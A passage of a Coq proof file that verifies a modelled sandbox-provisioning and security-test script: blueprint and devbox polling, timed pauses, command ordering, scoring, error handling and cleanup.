Lemma main_run_polled_devbox (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace) (id : string) (a : answer string) :
  main_run catalog fuel r E ->
  In (EvDevboxesRetrieve id a) E ->
  exists blueprint_id, In (EvDevboxesCreate blueprint_id (Returns id)) E.
Proof.
  intros H. paths H; intros Hin;
    unfold devbox_requested in Hin; in_parts is_devbox_poll Hin.
  all: match goal with
       | W : devbox_waited _ _ _ ?X, I : In _ ?X |- _ =>
           apply (devbox_waited_id _ _ _ _ _ _ W) in I as ->
       end.
  all: eexists; unfold devbox_requested; find_in.
Qed.

Lemma main_run_probed_devbox (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace)
    (id command_ : string) (timeout : Z) (a : answer ExecutionResult) :
  main_run catalog fuel r E ->
  In (EvExecuteSync id command_ timeout a) E ->
  exists blueprint_id, In (EvDevboxesCreate blueprint_id (Returns id)) E.
Proof.
  intros H. paths H; intros Hin;
    unfold devbox_requested in Hin; in_parts is_execute Hin.
  all: match goal with
       | W : probes _ _ _ _ ?X, I : In _ ?X |- _ =>
           apply (probes_id _ _ _ _ _ _ _ _ _ W) in I as [-> _]
       end.
  all: eexists; unfold devbox_requested; find_in.
Qed.

Lemma main_run_shut_down_devbox (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace) (id : string) (a : answer unit) :
  main_run catalog fuel r E ->
  In (EvShutdown id a) E ->
  exists blueprint_id, In (EvDevboxesCreate blueprint_id (Returns id)) E.
Proof.
  intros H. paths H; intros Hin;
    unfold devbox_requested in Hin; in_parts is_shutdown Hin.
  all: apply cleanup_id in Hin as ->.
  all: eexists; unfold devbox_requested; find_in.
Qed.

(** ** An exception that the probe loop lets through *)


(** ** The summary *)

Lemma main_run_summary (catalog : Catalog) (fuel : nat) (results : Results)
    (E : trace) :
  main_run catalog fuel (Done results) E ->
  exists pre id,
    E = pre ++ summary results ++ cleanup_events id (Returns tt).
Proof.
  intros H. paths H;
    match goal with
    | H : match ?a with Returns _ => _ | Raises _ => _ end = Done _ |- _ =>
        destruct a as [[] |]; try discriminate H; injection H as ->
    end.
  match goal with
  | |- exists pre id0, ?P ++ (?L ++ _) ++ cleanup_events ?id _ = _ =>
      exists (P ++ L), id
  end.
  now rewrite <- !app_assoc.
Qed.

(** ** The pause before the probes *)

Lemma main_run_pause (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace)
    (id command_ : string) (timeout : Z) (a : answer ExecutionResult)
    (pre post : trace) :
  main_run catalog fuel r E ->
  E = pre ++ EvExecuteSync id command_ timeout a :: post ->
  In (EvSleep 10) pre.
Proof.
  intros H. paths H; intros HE;
    try solve [exfalso;
               apply (split_absent is_execute _ _ _ _ HE eq_refl); absent].
  all: flatten in HE; locate is_execute HE.
  all: find_in.
Qed.

(** ** Which blueprint the calls go to *)

Lemma blueprint_waited_id (id : string) (n : nat) (r : outcome unit)
    (E : trace) (ev : event) :
  blueprint_waited id n r E -> In ev E ->
  match ev with
  | EvBlueprintsRetrieve i _ | EvBlueprintsLogs i _ => i = id
  | _ => True
  end.
Proof.
  intros H Hin.
  apply (blueprint_waited_all
           (fun ev => match ev with
                      | EvBlueprintsRetrieve i _ | EvBlueprintsLogs i _ => i = id
                      | _ => True
                      end)) in H; try (intros; exact I); try reflexivity.
  rewrite Forall_forall in H. exact (H _ Hin).
Qed.

Lemma main_run_polled_blueprint (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace) (id : string) (a : answer string) :
  main_run catalog fuel r E ->
  In (EvBlueprintsRetrieve id a) E \/ In (EvBlueprintsLogs id a) E ->
  exists dockerfile mounts commands,
    In (EvBlueprintsCreate "agentsh-sandbox" dockerfile mounts commands
          (Returns id)) E.
Proof.
  intros H. paths H;
    (intros [Hin | Hin]; unfold blueprint_requested in Hin;
     [in_parts is_blueprint_poll Hin | in_parts is_logs Hin]).
  all: match goal with
       | W : blueprint_waited _ _ _ ?X, I : In _ ?X |- _ =>
           apply (blueprint_waited_id _ _ _ _ _ W) in I as ->
       end.
  all: do 3 eexists; unfold blueprint_requested; find_in.
Qed.

(** ** The pause between two polls *)

Lemma split_two_before_suffix (W B pre mid post : trace) (x y : event) :
  W ++ B = pre ++ x :: mid ++ y :: post ->
  ~ In y B ->
  exists post1, W = pre ++ x :: mid ++ y :: post1.
Proof.
  intros HE Hn.
  assert (HE' : W ++ B = (pre ++ x :: mid) ++ y :: post)
    by now rewrite <- app_assoc.
  apply split_before_suffix in HE' as (post1 & -> & _); [|exact Hn].
  exists post1. now rewrite <- app_assoc.
Qed.

Lemma blueprint_waited_paced (id : string) (n : nat) (r : outcome unit)
    (W : trace) :
  blueprint_waited id n r W ->
  forall pre x mid y post,
    W = pre ++ x :: mid ++ y :: post ->
    is_blueprint_poll x = true ->
    is_blueprint_poll y = true ->
    In (EvSleep 5) mid.
Proof.
  induction 1 as [| | |n logs|n status r E Hc Hf H IH];
    intros pre x mid y post HE Hx Hy.
  - now destruct pre.
  - destruct pre as [|z [|z' pre]]; try discriminate HE.
    injection HE as _ HE. now destruct mid.
  - destruct pre as [|z pre]; cbn [app] in HE; injection HE as <- HE.
    + exfalso. apply (split_absent is_blueprint_poll _ _ _ _ HE Hy).
      repeat constructor.
    + exfalso. apply (split_absent is_blueprint_poll _ _ _ _ HE Hx).
      repeat constructor.
  - destruct pre as [|z pre]; cbn [app] in HE; injection HE as <- HE.
    + exfalso. apply (split_absent is_blueprint_poll _ _ _ _ HE Hy).
      destruct logs; repeat constructor.
    + exfalso. apply (split_absent is_blueprint_poll _ _ _ _ HE Hx).
      destruct logs; repeat constructor.
  - destruct pre as [|z pre]; cbn [app] in HE; injection HE as <- HE.
    + locate is_blueprint_poll HE. right. now left.
    + locate is_blueprint_poll HE. exact (IH _ _ _ _ _ HE Hx Hy).
Qed.

Lemma devbox_waited_paced (id : string) (n : nat) (r : outcome unit)
    (W : trace) :
  devbox_waited id n r W ->
  forall pre x mid y post,
    W = pre ++ x :: mid ++ y :: post ->
    is_devbox_poll x = true ->
    is_devbox_poll y = true ->
    In (EvSleep 2) mid.
Proof.
  induction 1 as [| | | |n status r E Hr Hf Hs H IH];
    intros pre x mid y post HE Hx Hy.
  - now destruct pre.
  - destruct pre as [|z [|z' pre]]; try discriminate HE.
    injection HE as _ HE. now destruct mid.
  - destruct pre as [|z pre]; cbn [app] in HE; injection HE as <- HE.
    + exfalso. apply (split_absent is_devbox_poll _ _ _ _ HE Hy).
      repeat constructor.
    + exfalso. apply (split_absent is_devbox_poll _ _ _ _ HE Hx).
      repeat constructor.
  - destruct pre as [|z [|z' pre]]; try discriminate HE.
    injection HE as _ HE. now destruct mid.
  - destruct pre as [|z pre]; cbn [app] in HE; injection HE as <- HE.
    + locate is_devbox_poll HE. now left.
    + locate is_devbox_poll HE. exact (IH _ _ _ _ _ HE Hx Hy).
Qed.

Lemma main_run_blueprint_paced (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace)
    (pre mid post : trace) (x y : event) :
  main_run catalog fuel r E ->
  E = pre ++ x :: mid ++ y :: post ->
  is_blueprint_poll x = true ->
  is_blueprint_poll y = true ->
  In (EvSleep 5) mid.
Proof.
  intros H. paths H; intros HE Hx Hy;
    try solve [exfalso;
               apply (split_absent is_blueprint_poll _ _ _ _ HE Hx); absent].
  all: flatten in HE; locate is_blueprint_poll HE.
  all: try (apply split_two_before_suffix in HE as (post1 & HE);
            [|solve [apply (forall_not_in is_blueprint_poll);
                     [absent | exact Hy]]]).
  all: match goal with
       | W : blueprint_waited _ _ _ _ |- _ =>
           exact (blueprint_waited_paced _ _ _ _ W _ _ _ _ _ HE Hx Hy)
       end.
Qed.

Lemma main_run_devbox_paced (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace)
    (pre mid post : trace) (x y : event) :
  main_run catalog fuel r E ->
  E = pre ++ x :: mid ++ y :: post ->
  is_devbox_poll x = true ->
  is_devbox_poll y = true ->
  In (EvSleep 2) mid.
Proof.
  intros H. paths H; intros HE Hx Hy;
    try solve [exfalso;
               apply (split_absent is_devbox_poll _ _ _ _ HE Hx); absent].
  all: flatten in HE; locate is_devbox_poll HE.
  all: try (apply split_two_before_suffix in HE as (post1 & HE);
            [|solve [apply (forall_not_in is_devbox_poll);
                     [absent | exact Hy]]]).
  all: match goal with
       | W : devbox_waited _ _ _ _ |- _ =>
           exact (devbox_waited_paced _ _ _ _ W _ _ _ _ _ HE Hx Hy)
       end.
Qed.

End StageFacts.

(* ===================================================================== *)
(** * Commands, counters and ids of a run *)
(* ===================================================================== *)

Module CountFacts.
Import PyStr Trace Specs Rules TraceFacts Run RunFacts Paths Events PathFacts
  ProbeFacts StageFacts.
Local Open Scope list_scope.

(** ** The commands and the counters of a whole run *)

Lemma commands_sent_none (E : trace) :
  Forall (fun ev => is_execute ev = false) E -> commands_sent E = [].
Proof.
  induction 1 as [|ev E H _ IH]; [reflexivity|].
  destruct ev; try discriminate; exact IH.
Qed.

Lemma answers_none (E : trace) :
  Forall (fun ev => is_execute ev = false) E -> answers E = [].
Proof.
  induction 1 as [|ev E H _ IH]; [reflexivity|].
  destruct ev; try discriminate; exact IH.
Qed.

Ltac sent_parts :=
  repeat rewrite commands_sent_app;
  repeat match goal with
    | |- context [commands_sent ?X] =>
        rewrite (commands_sent_none X) by solve [absent]
    end;
  repeat rewrite answers_app;
  repeat match goal with
    | |- context [answers ?X] => rewrite (answers_none X) by solve [absent]
    end;
  cbn [app]; repeat rewrite app_nil_r.

Lemma main_run_commands (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace) :
  main_run catalog fuel r E ->
  exists rest,
    map command (all_tests catalog) = commands_sent E ++ rest
    /\ (forall results, r = Done results -> rest = []).
Proof.
  intros H. paths H;
    try solve [exists (map command (all_tests catalog));
               split; [sent_parts; reflexivity | intros; discriminate]].
  - match goal with
    | W : probes _ _ _ _ _ |- _ =>
        destruct (probes_commands _ _ _ _ _ W) as (rest & Hm & Hd)
    end.
    exists rest. split; [sent_parts; exact Hm|]. intros _ _. now apply (Hd results).
  - match goal with
    | W : probes _ _ _ _ _ |- _ =>
        destruct (probes_commands _ _ _ _ _ W) as (rest & Hm & Hd)
    end.
    exists rest. split; [sent_parts; exact Hm|]. intros rs Hr.
    destruct a; discriminate Hr.
Qed.

Lemma main_run_scores (catalog : Catalog) (fuel : nat) (results : Results)
    (E : trace) :
  main_run catalog fuel (Done results) E ->
  List.length (answers E) = List.length (all_tests catalog)
  /\ passed results
     = Z.of_nat (List.length (filter (scored true)
                                (combine (all_tests catalog) (answers E))))
  /\ failed results
     = Z.of_nat (List.length (filter (scored false)
                                (combine (all_tests catalog) (answers E))))
  /\ errors results = Z.of_nat (count is_raised E).
Proof.
  intros H. paths H;
    match goal with
    | H : match ?a with Returns _ => _ | Raises _ => _ end = Done _ |- _ =>
        destruct a as [[] |]; try discriminate H; injection H as ->
    end.
  match goal with
  | W : probes _ _ _ _ _ |- _ =>
      destruct (probes_scores _ _ _ _ _ W) as (L & Hp & Hf & He)
  end.
  sent_parts. count_parts. cbn [passed failed errors] in *.
  rewrite Hp, Hf, He, L. repeat split; lia.
Qed.

Lemma probes_catalog (id : string) (ts : list Test) (results : Results)
    (r : outcome Results) (E : trace)
    (id' command_ : string) (timeout : Z) (a : answer ExecutionResult) :
  probes id ts results r E ->
  In (EvExecuteSync id' command_ timeout a) E ->
  exists test, In test ts /\ command_ = command test.
Proof.
  induction 1 as [results P HP | t ts results x results' r P Q E HP HQ Hx H IH
                 | t ts results e P HP He]; intros Hin.
  - exfalso. now apply (not_in_prints P (EvExecuteSync id' command_ timeout a) HP eq_refl Hin).
  - apply in_app_or in Hin as [Hin | [Hin | Hin]].
    + exfalso. now apply (not_in_prints P (EvExecuteSync id' command_ timeout a) HP eq_refl Hin).
    + injection Hin as _ <- _ _. exists t. split; [now left | reflexivity].
    + apply in_app_or in Hin as [Hin | Hin].
      * exfalso. now apply (not_in_prints Q (EvExecuteSync id' command_ timeout a) HQ eq_refl Hin).
      * destruct (IH Hin) as (test & Ht & Hc). exists test. split; [now right | exact Hc].
  - apply in_app_or in Hin as [Hin | [Hin | []]].
    + exfalso. now apply (not_in_prints P (EvExecuteSync id' command_ timeout a) HP eq_refl Hin).
    + injection Hin as _ <- _ _. exists t. split; [now left | reflexivity].
Qed.

Lemma main_run_catalog_command (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace)
    (id command_ : string) (timeout : Z) (a : answer ExecutionResult) :
  main_run catalog fuel r E ->
  In (EvExecuteSync id command_ timeout a) E ->
  timeout = 30%Z
  /\ exists test, In test (all_tests catalog) /\ command_ = command test.
Proof.
  intros H. paths H; intros Hin; in_parts is_execute Hin.
  all: match goal with
       | W : probes _ _ _ _ ?X, I : In _ ?X |- _ =>
           split;
           [ exact (proj2 (probes_id _ _ _ _ _ _ _ _ _ W I))
           | exact (probes_catalog _ _ _ _ _ _ _ _ _ W I) ]
       end.
Qed.

(** ** Which devbox and which blueprint an event is about *)

Lemma main_run_devbox_of (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace) (ev : event) (id : string) :
  main_run catalog fuel r E ->
  In ev E -> devbox_of ev = Some id ->
  exists blueprint_id, In (EvDevboxesCreate blueprint_id (Returns id)) E.
Proof.
  intros H Hin Hd. destruct ev; try discriminate Hd; injection Hd as ->.
  - exact (main_run_polled_devbox _ _ _ _ _ _ H Hin).
  - exact (main_run_probed_devbox _ _ _ _ _ _ _ _ H Hin).
  - exact (main_run_shut_down_devbox _ _ _ _ _ _ H Hin).
Qed.

Lemma main_run_blueprint_of (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace) (ev : event) (id : string) :
  main_run catalog fuel r E ->
  In ev E -> blueprint_of ev = Some id ->
  exists dockerfile mounts commands,
    In (EvBlueprintsCreate "agentsh-sandbox" dockerfile mounts commands
          (Returns id)) E.
Proof.
  intros H Hin Hd. destruct ev; try discriminate Hd; injection Hd as ->.
  - apply (main_run_polled_blueprint _ _ _ _ _ a H). left. exact Hin.
  - apply (main_run_polled_blueprint _ _ _ _ _ a H). right. exact Hin.
  - apply in_split in Hin as (pre & post & HE).
    destruct (main_run_devbox_create _ _ _ _ _ _ _ _ H HE)
      as (_ & (d & m & c & Hc) & _).
    exists d, m, c. rewrite HE. apply in_or_app. now left.
Qed.

(** ** A polling loop that never sees a final status *)

Lemma wait_for_blueprint_stuck (w : World) (id : string) :
  (forall h, exists status,
      blueprints_retrieve w h id = Returns status
      /\ status <> "build_complete" /\ status <> "build_failed") ->
  forall fuel h,
    fst (wait_for_blueprint w fuel id h) = OutOfFuel
    /\ count is_blueprint_poll (snd (wait_for_blueprint w fuel id h)) = fuel
    /\ count (is_pause 5) (snd (wait_for_blueprint w fuel id h)) = fuel.
Proof.
  intros Hw. induction fuel as [|fuel IH]; intros h.
  - repeat split.
  - cbn [wait_for_blueprint]. rewrite bind_call_run.
    destruct (Hw h) as (status & -> & Hc & Hf).
    unfold print, sleep. rewrite bind_emit_run. cbn [fst snd].
    apply String.eqb_neq in Hc, Hf. rewrite Hc, Hf.
    rewrite bind_emit_run. cbn [fst snd].
    match goal with
    | |- context [wait_for_blueprint w fuel id ?hh] =>
        destruct (IH hh) as (-> & C1 & C2)
    end.
    unfold count in *. cbn [filter is_blueprint_poll is_pause Z.eqb Pos.eqb List.length].
    now rewrite C1, C2.
Qed.

Lemma wait_for_devbox_stuck (w : World) (id : string) :
  (forall h, exists status,
      devboxes_retrieve w h id = Returns status
      /\ status <> "running" /\ status <> "failed" /\ status <> "shutdown") ->
  forall fuel h,
    fst (wait_for_devbox w fuel id h) = OutOfFuel
    /\ count is_devbox_poll (snd (wait_for_devbox w fuel id h)) = fuel
    /\ count (is_pause 2) (snd (wait_for_devbox w fuel id h)) = fuel.
Proof.
  intros Hw. induction fuel as [|fuel IH]; intros h.
  - repeat split.
  - cbn [wait_for_devbox]. rewrite bind_call_run.
    destruct (Hw h) as (status & -> & Hr & Hf & Hs).
    apply String.eqb_neq in Hr, Hf, Hs. rewrite Hr, Hf, Hs. cbn [orb].
    unfold sleep. rewrite bind_emit_run. cbn [fst snd].
    match goal with
    | |- context [wait_for_devbox w fuel id ?hh] =>
        destruct (IH hh) as (-> & C1 & C2)
    end.
    unfold count in *. cbn [filter is_devbox_poll is_pause Z.eqb Pos.eqb List.length].
    now rewrite C1, C2.
Qed.

End CountFacts.

(* ===================================================================== *)
(** * Errors of the provisioning calls *)
(* ===================================================================== *)

Module ErrorFacts.
Import PyStr Trace Specs Rules TraceFacts Run RunFacts Paths Events PathFacts
  ProbeFacts StageFacts.
Local Open Scope list_scope.

(** ** A provisioning call that raises *)

(** Where an event of an appended trace sits. *)
Lemma split_app (X L pre post : trace) (y : event) :
  X ++ L = pre ++ y :: post ->
  (exists post1, X = pre ++ y :: post1 /\ post = post1 ++ L)
  \/ (exists pre2, pre = X ++ pre2 /\ L = pre2 ++ y :: post).
Proof.
  revert pre. induction X as [|x X IH]; intros pre HE.
  - right. now exists pre.
  - destruct pre as [|z pre]; cbn [app] in HE; injection HE as <- HE.
    + left. now exists X.
    + destruct (IH pre HE) as [(post1 & -> & ->) | (pre2 & -> & ->)].
      * left. now exists post1.
      * right. now exists pre2.
Qed.

Lemma blueprint_waited_error (id : string) (n : nat) (r : outcome unit)
    (W : trace) :
  blueprint_waited id n r W ->
  forall pre ev post e,
    W = pre ++ ev :: post ->
    provisioning_error ev = Some e ->
    post = [] /\ r = Raise e.
Proof.
  induction 1 as [|n e0|n|n logs|n status r E Hc Hf H IH];
    intros pre ev post e HE Hp;
    assert (Hb : is_provisioning_error ev = true)
      by (unfold is_provisioning_error; now rewrite Hp).
  - now destruct pre.
  - destruct pre as [|z [|z' pre]]; try discriminate HE.
    injection HE as <- <-. now injection Hp as ->.
  - exfalso. apply (split_absent is_provisioning_error _ _ _ _ HE Hb).
    repeat constructor.
  - exfalso. apply (split_absent is_provisioning_error _ _ _ _ HE Hb).
    destruct logs; repeat constructor.
  - locate is_provisioning_error HE. exact (IH _ _ _ _ HE Hp).
Qed.

Lemma devbox_waited_error (id : string) (n : nat) (r : outcome unit)
    (W : trace) :
  devbox_waited id n r W ->
  forall pre ev post e,
    W = pre ++ ev :: post ->
    provisioning_error ev = Some e ->
    post = [] /\ r = Raise e.
Proof.
  induction 1 as [|n e0|n|n status Hs'|n status r E Hr Hf Hs H IH];
    intros pre ev post e HE Hp;
    assert (Hb : is_provisioning_error ev = true)
      by (unfold is_provisioning_error; now rewrite Hp).
  - now destruct pre.
  - destruct pre as [|z [|z' pre]]; try discriminate HE.
    injection HE as <- <-. now injection Hp as ->.
  - exfalso. apply (split_absent is_provisioning_error _ _ _ _ HE Hb).
    repeat constructor.
  - exfalso. apply (split_absent is_provisioning_error _ _ _ _ HE Hb).
    repeat constructor.
  - locate is_provisioning_error HE. exact (IH _ _ _ _ HE Hp).
Qed.

(** Walk over a trace up to the event of [HE], through the polling loops
    as well: an error inside a loop that returned is impossible. *)
Ltac through_loops HE Hp :=
  repeat first
    [ progress (locate is_provisioning_error HE)
    | match type of HE with
      | (?W ++ _) = _ ++ _ :: _ =>
          let post1 := fresh "post" in
          let pre2 := fresh "pre" in
          apply split_app in HE as [(post1 & HE & ->) | (pre2 & -> & HE)];
          [ match goal with
            | B : blueprint_waited _ _ _ W |- _ =>
                destruct (blueprint_waited_error _ _ _ _ B _ _ _ _ HE Hp)
                  as [_ Hr]; discriminate Hr
            | D : devbox_waited _ _ _ W |- _ =>
                destruct (devbox_waited_error _ _ _ _ D _ _ _ _ HE Hp)
                  as [_ Hr]; discriminate Hr
            end
          | ]
      end ].

Lemma main_run_provisioning_error (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace) (pre post : trace) (ev : event)
    (e : exn) :
  main_run catalog fuel r E ->
  E = pre ++ ev :: post ->
  provisioning_error ev = Some e ->
  post = [] /\ r = Raise e.
Proof.
  intros H. paths H; intros HE Hp;
    assert (Hb : is_provisioning_error ev = true)
      by (unfold is_provisioning_error; now rewrite Hp);
    try solve [exfalso;
               apply (split_absent is_provisioning_error _ _ _ _ HE Hb);
               absent].
  all: flatten in HE; through_loops HE Hp.
  all: try solve [exfalso;
                  apply (split_absent is_provisioning_error _ _ _ _ HE Hb);
                  absent].
  all: try match goal with
           | B : blueprint_waited _ _ _ ?W |- _ =>
               match type of HE with
               | W = _ =>
                   destruct (blueprint_waited_error _ _ _ _ B _ _ _ _ HE Hp)
                     as [-> Hr];
                   first [discriminate Hr | injection Hr as ->; now split]
               end
           | D : devbox_waited _ _ _ ?W |- _ =>
               match type of HE with
               | W = _ =>
                   destruct (devbox_waited_error _ _ _ _ D _ _ _ _ HE Hp)
                     as [-> Hr];
                   first [discriminate Hr | injection Hr as ->; now split]
               end
           end.
  all: match type of HE with
       | _ = ?p ++ _ :: _ =>
           destruct p as [|? [|? ?]]; try discriminate HE;
           injection HE as <- <-; now injection Hp as ->
       end.
Qed.

End ErrorFacts.

(* ===================================================================== *)
(** * The script on a console that can raise *)
(* ===================================================================== *)

Module FullFacts.
Import PyStr Trace Specs Rules TraceFacts Run.
Local Open Scope list_scope.

(** ** Computations that agree on every history *)

Lemma bind_ext {A B} (m m' : M A) (f f' : A -> M B) (h : trace) :
  (forall h, m h = m' h) ->
  (forall a h, f a h = f' a h) ->
  bind m f h = bind m' f' h.
Proof.
  intros Hm Hf. unfold bind. rewrite Hm. destruct (m' h) as [[a | e |] E1];
    [now rewrite Hf | reflexivity ..].
Qed.

Lemma try_except_ext {A} (m m' : M A) (k k' : exn -> M A) (h : trace) :
  (forall h, m h = m' h) ->
  (forall e h, k e h = k' e h) ->
  try_except m k h = try_except m' k' h.
Proof.
  intros Hm Hk. unfold try_except. rewrite Hm.
  destruct (m' h) as [[a | e |] E1]; [reflexivity | now rewrite Hk | reflexivity].
Qed.

Lemma try_finally_ext {A} (m m' : M A) (fin fin' : M unit) (h : trace) :
  (forall h, m h = m' h) ->
  (forall h, fin h = fin' h) ->
  try_finally m fin h = try_finally m' fin' h.
Proof.
  intros Hm Hf. unfold try_finally. rewrite Hm.
  destruct (m' h) as [[a | e |] E1]; now rewrite ?Hf.
Qed.

Section Quiet.
Variable c : Console.
Variable w : World.
Hypothesis Q : Full.quiet c.

Lemma print_quiet (text : string) (h : trace) :
  Full.print c text h = print text h.
Proof. unfold Full.print. now rewrite (proj1 Q). Qed.

Lemma sleep_quiet (seconds : Z) (h : trace) :
  Full.sleep c seconds h = sleep seconds h.
Proof. unfold Full.sleep. now rewrite (proj2 Q). Qed.

(** One step of a proof that two scripts agree: the same statement on
    both sides, or a [print] or a pause that returns. *)
Ltac agree :=
  repeat first
    [ apply print_quiet
    | apply sleep_quiet
    | reflexivity
    | match goal with H : _ |- _ => simple apply H end
    | apply bind_ext; [intros ?|intros ? ?]
    | apply try_except_ext; [intros ?|intros ? ?]
    | match goal with
      | |- (if ?b then _ else _) _ = _ => destruct b
      | |- (match ?x with _ => _ end) _ = _ => destruct x
      end ].

Lemma check_prerequisites_quiet (h : trace) :
  Full.check_prerequisites c w h = check_prerequisites w h.
Proof. unfold Full.check_prerequisites, check_prerequisites. agree. Qed.

Lemma wait_for_blueprint_quiet (fuel : nat) (id : string) (h : trace) :
  Full.wait_for_blueprint c w fuel id h = wait_for_blueprint w fuel id h.
Proof.
  revert h. induction fuel as [|fuel IH]; intros h; [reflexivity|].
  cbn [Full.wait_for_blueprint wait_for_blueprint]. agree.
Qed.

Lemma create_blueprint_quiet (fuel : nat) (d y z : string) (h : trace) :
  Full.create_blueprint c w fuel d y z h = create_blueprint w fuel d y z h.
Proof.
  unfold Full.create_blueprint, create_blueprint.
  pose proof (wait_for_blueprint_quiet fuel) as W. agree.
Qed.

Lemma wait_for_devbox_quiet (fuel : nat) (id : string) (h : trace) :
  Full.wait_for_devbox c w fuel id h = wait_for_devbox w fuel id h.
Proof.
  revert h. induction fuel as [|fuel IH]; intros h; [reflexivity|].
  cbn [Full.wait_for_devbox wait_for_devbox]. agree.
Qed.

Lemma create_devbox_quiet (fuel : nat) (id : string) (h : trace) :
  Full.create_devbox c w fuel id h = create_devbox w fuel id h.
Proof.
  unfold Full.create_devbox, create_devbox.
  pose proof (wait_for_devbox_quiet fuel) as W. agree.
Qed.

Lemma provision_quiet (fuel : nat) (h : trace) :
  Full.provision c w fuel h = provision w fuel h.
Proof.
  unfold Full.provision, provision.
  pose proof check_prerequisites_quiet as P.
  pose proof (create_blueprint_quiet fuel) as B.
  pose proof (create_devbox_quiet fuel) as D. agree.
Qed.

(** With prints that return, the handlers only ever see the dict of the
    entry: the two ways of writing the [try] block agree. *)
Lemma run_test_quiet (id : string) (test : Test) (results : Results)
    (h : trace) :
  Full.run_test c w id test results h = run_test w id test results h.
Proof.
  unfold Full.run_test, run_test.
  do 3 (apply bind_ext; [intros ?; apply print_quiet | intros _ ?]).
  unfold bind at 1, attempt, try_except, call. unfold bind at 4.
  match goal with
  | |- context [devboxes_execute_sync w ?hh id (command test) 30] =>
      destruct (devboxes_execute_sync w hh id (command test) 30) as [result | e]
  end; cbn [fst snd].
  - unfold Full.print, print, emit, bind, ret. rewrite !(proj1 Q). reflexivity.
  - destruct e; cbn [Full.on_error]; unfold Full.print, print, emit, bind, ret, raise;
      rewrite ?(proj1 Q); reflexivity.
Qed.

Lemma run_tests_quiet (id : string) (ts : list Test) (results : Results)
    (h : trace) :
  Full.run_tests c w id ts results h = run_tests w id ts results h.
Proof.
  revert results h. induction ts as [|t ts IH]; intros results h; [reflexivity|].
  cbn [Full.run_tests run_tests]. pose proof (run_test_quiet id t) as T. agree.
Qed.

Lemma run_categories_quiet (id : string) (catalog : Catalog)
    (results : Results) (h : trace) :
  Full.run_categories c w id catalog results h
  = run_categories w id catalog results h.
Proof.
  revert results h.
  induction catalog as [|[key category] catalog IH]; intros results h;
    [reflexivity|].
  cbn [Full.run_categories run_categories].
  pose proof (run_tests_quiet id (tests category)) as T. agree.
Qed.

Lemma security_tests_quiet (catalog : Catalog) (id : string) (h : trace) :
  Full.security_tests c w catalog id h = security_tests w catalog id h.
Proof.
  unfold Full.security_tests, security_tests.
  pose proof (run_categories_quiet id catalog) as R. agree.
Qed.

Lemma cleanup_quiet (id : string) (h : trace) :
  Full.cleanup c w id h = cleanup w id h.
Proof. unfold Full.cleanup, cleanup, Full.cleanup_banner. agree. Qed.

(** On a console that never raises the script is the script of [Run]. *)
Lemma main_on_quiet (catalog : Catalog) (fuel : nat) (h : trace) :
  Full.main_on c w catalog fuel h = main_on w catalog fuel h.
Proof.
  unfold Full.main_on, main_on.
  apply bind_ext; [apply provision_quiet | intros id h'].
  apply try_finally_ext; [apply security_tests_quiet | apply cleanup_quiet].
Qed.

End Quiet.

Lemma run_on_quiet (c : Console) (w : World) (catalog : Catalog) (fuel : nat) :
  Full.quiet c -> Full.run_on c w catalog fuel = run_on w catalog fuel.
Proof. intros Q. apply main_on_quiet, Q. Qed.

(** ** Events of the script on any console *)

Section Any.
Variable c : Console.
Variable w : World.

Lemma emits_full_print (N : event -> Prop) (text : string) :
  N (EvPrint text) -> emits N (Full.print c text).
Proof.
  intros H h. unfold Full.print.
  destruct (print_answer c h text); cbn; repeat constructor. exact H.
Qed.

Lemma emits_full_sleep (N : event -> Prop) (seconds : Z) :
  N (EvSleep seconds) -> emits N (Full.sleep c seconds).
Proof.
  intros H h. unfold Full.sleep.
  destruct (sleep_answer c h seconds); cbn; repeat constructor. exact H.
Qed.

Lemma emits_attempt {A} (N : event -> Prop) (m : M A) :
  emits N m -> emits N (attempt m).
Proof.
  intros H h. specialize (H h). unfold attempt.
  destruct (m h) as [[a | e |] E]; exact H.
Qed.

(** A step of a proof that every event of a part of the script is of one
    kind; [tac] proves the side conditions on single events. *)
Ltac full_emits_step tac :=
  first
    [ apply emits_full_print; tac
    | apply emits_full_sleep; tac
    | apply emits_attempt
    | match goal with H : _ |- _ => simple apply H end
    | emits_step tac ].

Ltac early_event :=
  split; [reflexivity | split; [reflexivity | discriminate]].

Lemma check_prerequisites_early : emits FullSpecs.early (Full.check_prerequisites c w).
Proof. unfold Full.check_prerequisites. repeat full_emits_step early_event. Qed.

Lemma wait_for_blueprint_early (fuel : nat) (id : string) :
  emits FullSpecs.early (Full.wait_for_blueprint c w fuel id).
Proof.
  revert id. induction fuel as [|fuel IH]; intros id;
    cbn [Full.wait_for_blueprint]; repeat full_emits_step early_event.
Qed.

Lemma create_blueprint_early (fuel : nat) (d y z : string) :
  emits FullSpecs.early (Full.create_blueprint c w fuel d y z).
Proof.
  unfold Full.create_blueprint. pose proof (wait_for_blueprint_early fuel) as W.
  repeat full_emits_step early_event.
Qed.

Lemma wait_for_devbox_early (fuel : nat) (id : string) :
  emits FullSpecs.early (Full.wait_for_devbox c w fuel id).
Proof.
  revert id. induction fuel as [|fuel IH]; intros id;
    cbn [Full.wait_for_devbox]; repeat full_emits_step early_event.
Qed.

Lemma paused_bind {A B} (m : M A) (f : A -> M B) :
  emits FullSpecs.early m ->
  (forall a, sat (f a) FullSpecs.paused) ->
  sat (bind m f) FullSpecs.paused.
Proof.
  intros Hm Hf.
  apply (sat_bind m f (fun _ E => Forall FullSpecs.early E)
           (fun _ => FullSpecs.paused)); try assumption.
  - intros a E1 r E2 H1 H2. destruct r as [b | e |]; cbn in *.
    + destruct H2 as (pre & -> & H2). exists (E1 ++ pre).
      split; [now rewrite app_assoc | now apply Forall_app].
    + now apply Forall_app.
    + now apply Forall_app.
  - now intros e E H.
  - now intros E H.
Qed.

Lemma pause_paused {A} (a : A) :
  sat (bind (Full.sleep c 10) (fun _ => ret a)) FullSpecs.paused.
Proof.
  intros h. unfold bind, Full.sleep, ret.
